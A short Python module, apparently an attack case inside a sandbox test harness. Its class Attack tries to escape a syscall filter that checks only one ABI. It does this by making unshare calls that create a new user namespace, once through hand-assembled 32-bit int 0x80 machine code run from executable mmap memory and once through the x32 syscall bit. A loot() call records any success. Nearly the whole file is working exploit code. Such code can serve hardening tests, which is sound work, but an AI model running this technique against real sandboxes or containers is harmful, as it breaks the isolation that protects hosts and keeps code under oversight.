"""Makes system calls as a program of 32 bits and of the x32 kind does, past a filter that knows one kind alone."""

import ctypes
import mmap
import os
import platform

from aim import LIBC, loot

from run import ZEWDPCBaseRun

X32 = 0x40000000
UNSHARE, UNSHARE_32, NEW_USER = 272, 310, 0x10000000


def machine_code(code):
    area = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area))), area


def old_call():
    # push rbx; mov eax, UNSHARE_32; mov ebx, NEW_USER; int 0x80; pop rbx; ret
    code = b"\x53\xb8" + UNSHARE_32.to_bytes(4, "little") + b"\xbb" + NEW_USER.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3"
    function, _area = machine_code(code)
    return function()


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        if platform.machine() != "x86_64":
            return
        for name, act in (("32 bits", old_call), ("x32", lambda: LIBC.syscall(X32 | UNSHARE, NEW_USER))):
            child = os.fork()
            if child == 0:
                if act() == 0:
                    loot(f"a namespace of its own by a call of {name}")
                os._exit(0)
            print(name, os.waitpid(child, 0)[1], flush=True)
